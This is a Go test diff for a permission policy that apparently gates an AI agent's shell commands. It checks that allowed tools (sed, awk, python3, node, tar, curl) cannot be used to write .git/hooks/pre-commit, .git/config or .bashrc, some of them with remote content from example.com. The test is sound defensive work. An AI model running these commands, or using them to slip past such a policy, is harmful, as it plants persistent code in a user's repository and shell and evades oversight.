@@ -297,3 +297,23 @@ func TestAttack_BypassModeIgnoresTheListOfTools(t *testing.T) {
 		}
 	}
 }
+
+func TestAttack_ProtectedPathInsideAProgramThatARuleAllows(t *testing.T) {
+	p := newPlace(t)
+	allow := policy.Standard{Rules: policy.Rules{Allow: rules(t, "Bash(sed:*)", "Bash(awk:*)", "Bash(python3:*)", "Bash(node:*)", "Bash(tar:*)", "Bash(curl:*)")}}
+	for _, command := range []string{
+		"sed -n 'w .git/hooks/pre-commit' README.md", "sed -n 's/x/y/w.git/hooks/pre-commit' README.md", `awk '{ print > ".git/hooks/pre-commit" }' README.md`, `python3 -c "open('.git/hooks/pre-commit', 'w')"`,
+		`node -e 'fs.writeFileSync(".git/config", "x")'`, "tar xf x.tar -C .git/hooks", "curl -o .git/hooks/pre-commit http://example.com", "curl -o.bashrc http://example.com", "curl --output=.git/config http://example.com",
+	} {
+		for _, mode := range policy.Modes {
+			if d := allow.Decide(t.Context(), p.query(mode, command)); d.Verdict == policy.Allow {
+				t.Errorf("%s, mode %s: allowed by %s", command, mode, d.Rule)
+			}
+		}
+	}
+	for _, command := range []string{"sed -n 'w out.txt' README.md", `python3 -c "print('.github')"`, "tar xf x.tar -C build"} {
+		if d := allow.Decide(t.Context(), p.query(policy.ModeDefault, command)); d.Verdict != policy.Allow {
+			t.Errorf("%s: got %v (%s), want allow", command, d.Verdict, d.Reason)
+		}
+	}
+}
